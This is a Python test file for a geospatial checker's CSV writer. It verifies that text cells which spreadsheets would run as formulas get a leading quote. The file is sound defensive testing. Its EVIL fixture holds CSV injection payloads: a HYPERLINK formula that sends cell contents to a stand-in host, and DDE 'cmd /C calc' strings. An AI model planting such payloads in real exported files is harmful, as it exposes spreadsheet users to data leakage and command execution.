"""CSV injection (issue 11, item 8): text cells a spreadsheet would run as a formula get a
leading ``'`` in every CSV geoplan writes; numbers and the GeoPackage keep raw values.

The files are read back with the :mod:`csv` module, so the test sees the cells as a
spreadsheet would receive them (no pandas type guessing).
"""

from __future__ import annotations

import csv
import math
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from conftest import X0, Y0, gk
from shapely import Point, box

import geoplan
from geoplan.csvsafe import FORMULA_TRIGGERS, csv_safe_frame, neutralise_cell

EVIL = {
    "eq": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+1", "+1"), ("+86 139 0000", "'+86 139 0000"), ("-2+3", "'-2+3"),
     ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-1.5", "-1.5"),
     ("-1.5e3", "-1.5e3"), ("+.5", "+.5"), ("-1.5abc", "'-1.5abc"), (" =1", " =1"),
     ("a=1", "a=1"), ("", ""), ("一级", "一级"), ("'=1", "'=1")],
)
def test_neutralise_cell_text(value: str, expected: str) -> None:
    assert neutralise_cell(value) == expected


@pytest.mark.parametrize("value", [-1.5, -3, None, True, float("nan")])
def test_neutralise_cell_leaves_non_text_alone(value) -> None:
    got = neutralise_cell(value)
    assert got is value or (isinstance(value, float) and math.isnan(got))


def test_frame_numeric_columns_untouched_and_names_neutralised() -> None:
    df = pd.DataFrame({"=name": ["=A1", "ok"], "measure": [-1.5, 2.0],
                       "mixed": [-4, "-4+1"], "n": pd.array([-1, 2], dtype="Int64")})
    out = csv_safe_frame(df)
    assert list(out.columns) == ["'=name", "measure", "mixed", "n"]
    assert out["'=name"].tolist() == ["'=A1", "ok"]
    assert out["measure"].tolist() == [-1.5, 2.0]
    assert out["mixed"].tolist() == [-4, "'-4+1"]
    assert out["n"].dtype == "Int64"
    assert df["=name"].tolist() == ["=A1", "ok"]  # the input is not changed


@pytest.fixture
def evil_sites() -> gpd.GeoDataFrame:
    """Two houses: one 2 m into the flood square (fail), one far away (pass)."""
    return gk([box(X0 + 10, Y0 - 8, X0 + 20, Y0 + 2), Point(X0 + 1500, Y0 + 1500)],
              house_id=["=H1", "-7"], owner=[EVIL["eq"], "张三"], note=[EVIL["at"], EVIL["tab"]],
              parcel=[EVIL["minus"], EVIL["cr"]], level=["-1.5", EVIL["plus"]],
              elevation=[-1.5, 3.0], **{"=cmd": ["x", "y"]})


def _check_csvs(out: Path) -> None:
    v = {r["house_id"]: r for r in _rows(out / "verdicts.csv")}
    assert set(v) == {"'=H1", "-7"}  # "-7" is a plain number: kept
    h1, h2 = v["'=H1"], v["-7"]
    assert h1["owner"] == "'" + EVIL["eq"]
    assert h1["note"] == "'" + EVIL["at"]
    assert h2["note"] == "'" + EVIL["tab"]
    assert h1["parcel"] == "'" + EVIL["minus"]
    assert h2["parcel"] == "'" + EVIL["cr"]
    assert h2["level"] == "'" + EVIL["plus"]
    assert h1["level"] == "-1.5"
    assert h1["elevation"] == "-1.5"  # a numeric column: the number, untouched
    assert h2["owner"] == "张三"
    assert "'=cmd" in h1  # a column name is a cell too
    f = _rows(out / "findings.csv")
    assert {r["site_id"] for r in f} == {"'=H1", "-7"}
    flood = next(r for r in f if r["site_id"] == "'=H1" and r["rule_id"] == "house.flood_zone")
    assert flood["status"] == "fail"
    assert float(flood["measure"]) == pytest.approx(20.0)  # 10 m × 2 m inside the square


def test_findings_and_verdicts_csv_are_neutralised_gpkg_is_raw(
        tmp_path: Path, small_workspace: Path, evil_sites: gpd.GeoDataFrame) -> None:
    out = tmp_path / "out"
    geoplan.check(evil_sites, small_workspace, id_field="house_id").to_files(out, map_html=False,
                                                                             report_html=False)
    _check_csvs(out)
    raw = gpd.read_file(out / "results.gpkg", layer="verdicts")
    row = raw.set_index("house_id").loc["=H1"]
    assert row["owner"] == EVIL["eq"]
    assert row["parcel"] == EVIL["minus"]
    assert "=cmd" in raw.columns
    fnd = gpd.read_file(out / "results.gpkg", layer="findings")
    assert "=H1" in set(fnd["site_id"])


def test_chunked_writer_neutralises_the_same_way(tmp_path: Path, small_workspace: Path,
                                                 evil_sites: gpd.GeoDataFrame) -> None:
    whole, chunked = tmp_path / "whole", tmp_path / "chunked"
    geoplan.check(evil_sites, small_workspace, id_field="house_id").to_files(
        whole, map_html=False, report_html=False)
    res = geoplan.check(evil_sites, small_workspace, engine="chunked", chunk_size=1,
                        out=chunked, id_field="house_id")
    assert res.streamed
    _check_csvs(chunked)
    for name in ("findings.csv", "verdicts.csv"):
        assert (chunked / name).read_bytes() == (whole / name).read_bytes(), name


def test_analysis_csv_is_neutralised(tmp_path: Path) -> None:
    from geoplan.analysis._output import write_outputs

    table = pd.DataFrame({"village": [EVIL["eq"], "巴彦岱村"], "gap_m": [-2.5, 10.0]})
    write_outputs(tmp_path / "out", csv={"t.csv": table}, summary={"n": 2})
    rows = _rows(tmp_path / "out" / "t.csv")
    assert rows[0]["village"] == "'" + EVIL["eq"]
    assert rows[0]["gap_m"] == "-2.5"
    assert rows[1]["village"] == "巴彦岱村"


# -- the Arrow writer gives the bytes of DataFrame.to_csv ---------------------------------

_CELLS = ["", "a", "张三,李四", 'say "hi"', "line\nbreak", "cr\ronly", "crlf\r\n", " lead", "trail ",
          "'=1", "=1+1", "-2+3", "-1.5", "\t=x", "一级保护区", '"', ",", "a,b\"c\nd", "💧"]
_FLOATS = [0.0, -0.0, 1.0, -1.5, 0.1 + 0.2, 1e16, 1e-7, 123456789.123456, float("nan"),
           float("inf"), float("-inf"), 5e-324, 1.7976931348623157e308, 2.5]


def _frames() -> list[tuple[str, pd.DataFrame]]:
    n = len(_CELLS)
    floats = (_FLOATS * 2)[:n]
    return [
        ("text-object", pd.DataFrame({"a": _CELLS, "b": list(reversed(_CELLS))}, dtype=object)),
        ("text-str", pd.DataFrame({"a": pd.array(_CELLS, dtype="str"),
                                   "b": pd.array(list(reversed(_CELLS)), dtype="string")})),
        ("missing", pd.DataFrame({"a": pd.array(["x", None, "=y", None] * 3, dtype="str"),
                                  "b": pd.Series(["x", None, float("nan"), "z"] * 3, dtype=object),
                                  "c": [1.5, float("nan"), 0.0, -2.0] * 3})),
        ("numbers", pd.DataFrame({"f": floats, "f32": np.array([f if abs(f) < 1e30 else 3.25 for f in floats],
                                                        dtype=np.float32),
                                  "i": np.arange(-n, n, 2, dtype=np.int64)[:n],
                                  "u8": np.arange(n, dtype=np.uint8),
                                  "b": [i % 3 == 0 for i in range(n)]})),
        ("findings-like", pd.DataFrame({
            "site_id": pd.array([f"H{i:07d}" for i in range(n)], dtype="str"),
            "status": pd.array(["pass", "fail"] * (n // 2) + ["warn"] * (n % 2), dtype="str"),
            "measure": floats, "message_zh": pd.array(_CELLS, dtype="str"),
            "=col,\"name\"": np.arange(n)})),
        ("empty", pd.DataFrame({"a": pd.array([], dtype="str"), "b": np.array([], dtype=float)})),
    ]


def _frames_to_pandas() -> list[tuple[str, pd.DataFrame]]:
    n = 4
    return [  # columns the Arrow writer hands to pandas; the file must still be pandas' own
        ("dates", pd.DataFrame({"d": pd.date_range("2026-01-01", periods=n), "x": range(n)})),
        ("mixed-object", pd.DataFrame({"m": [1, "=a", 2.5, None], "x": range(n)})),
        ("nullable-int", pd.DataFrame({"n": pd.array([1, None, 3, -4], dtype="Int64"),
                                       "x": ["a"] * n})),
        ("categorical", pd.DataFrame({"c": pd.Categorical(["=a", "b", "a", "b"]), "x": range(n)})),
        ("one-column", pd.DataFrame({"a": ["", "x", "", "y,z"]})),
    ]


@pytest.mark.parametrize(("name", "df"), _frames() + _frames_to_pandas(),
                         ids=[n for n, _ in _frames() + _frames_to_pandas()])
@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "gb18030"])
def test_write_csv_bytes_are_pandas_bytes(tmp_path: Path, name: str, df: pd.DataFrame,
                                          encoding: str) -> None:
    from geoplan.csvsafe import write_csv

    if encoding == "gb18030":
        df = df.replace("💧", "水")  # GB 18030 encodes it, but keep the frame plain
    got, want = tmp_path / "got.csv", tmp_path / "want.csv"
    write_csv(df, got, encoding=encoding)
    write_csv(df.iloc[:3], got, mode="a", header=False, encoding="utf-8")
    csv_safe_frame(df).to_csv(want, index=False, encoding=encoding, lineterminator="\r\n")
    csv_safe_frame(df.iloc[:3]).to_csv(want, index=False, mode="a", header=False,
                                        encoding="utf-8", lineterminator="\r\n")
    assert got.read_bytes() == want.read_bytes()


@pytest.mark.parametrize(("name", "df"), _frames(), ids=[n for n, _ in _frames()])
def test_arrow_writer_takes_text_and_numbers(tmp_path: Path, name: str, df: pd.DataFrame) -> None:
    """The comparison above is of the Arrow writer, not of pandas with itself.

    ``write_csv`` hands it the frame as given, to be neutralised on each
    column's distinct values: the bytes are those of the frame neutralised first.
    """
    from geoplan.csvsafe import _write_with_arrow

    assert _write_with_arrow(csv_safe_frame(df), tmp_path / "x.csv", mode="w", header=True,
                             bom=True)
    assert _write_with_arrow(df, tmp_path / "y.csv", mode="w", header=True, bom=True,
                             neutralise=True)
    assert (tmp_path / "y.csv").read_bytes() == (tmp_path / "x.csv").read_bytes()


def test_arrow_writer_slices_a_long_frame(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import geoplan.csvsafe as cs

    monkeypatch.setattr(cs, "_SLICE_ROWS", 7)
    df = pd.DataFrame({"a": pd.array([f"=r{i}" if i % 5 == 0 else f"r,{i}" for i in range(50)],
                                     dtype="str"), "v": np.linspace(-1, 1, 50)})
    cs.write_csv(df, tmp_path / "got.csv")
    csv_safe_frame(df).to_csv(tmp_path / "want.csv", index=False, encoding="utf-8-sig",
                              lineterminator="\r\n")
    assert (tmp_path / "got.csv").read_bytes() == (tmp_path / "want.csv").read_bytes()


@pytest.mark.parametrize("trigger", list(FORMULA_TRIGGERS))
def test_arrow_writer_neutralises_every_trigger(tmp_path: Path, trigger: str) -> None:
    """Each leading trigger is caught on the Arrow path, as neutralise_cell catches it."""
    from geoplan.csvsafe import _write_with_arrow

    cells = [trigger + "SUM(A1)", "x" + trigger, trigger + "1", None]
    df = pd.DataFrame({"a": pd.array(cells, dtype="str"), "b": pd.Series(cells, dtype=object)})
    assert _write_with_arrow(df, tmp_path / "got.csv", mode="w", header=True, bom=False,
                             neutralise=True)
    csv_safe_frame(df).to_csv(tmp_path / "want.csv", index=False, encoding="utf-8",
                              lineterminator="\r\n")
    got = (tmp_path / "got.csv").read_bytes()
    assert got == (tmp_path / "want.csv").read_bytes()
    assert got.count(("'" + trigger + "SUM(A1)").encode()) == 2


@pytest.mark.parametrize("seed", range(5))
def test_write_csv_random_frames_are_pandas_bytes(tmp_path: Path, seed: int) -> None:
    from geoplan.csvsafe import write_csv

    rng = np.random.default_rng(seed)
    alphabet = [*"ab ,\"'\r\n\t=+-@.0123456789eE张三一级", "💧"]
    n = 300
    text = ["".join(rng.choice(alphabet, size=rng.integers(0, 8))) for _ in range(n)]
    floats = rng.standard_normal(n) * 10.0 ** rng.integers(-20, 20, n)
    floats[rng.random(n) < 0.2] = np.nan
    floats[rng.random(n) < 0.1] = -0.0
    df = pd.DataFrame({"t": pd.array(text, dtype="str"), "o": pd.Series(text[::-1], dtype=object),
                       "f": floats, "i": rng.integers(-10**12, 10**12, n),
                       "g": floats.astype(np.float32)})
    write_csv(df, tmp_path / "got.csv")
    csv_safe_frame(df).to_csv(tmp_path / "want.csv", index=False, encoding="utf-8-sig",
                              lineterminator="\r\n")
    assert (tmp_path / "got.csv").read_bytes() == (tmp_path / "want.csv").read_bytes()
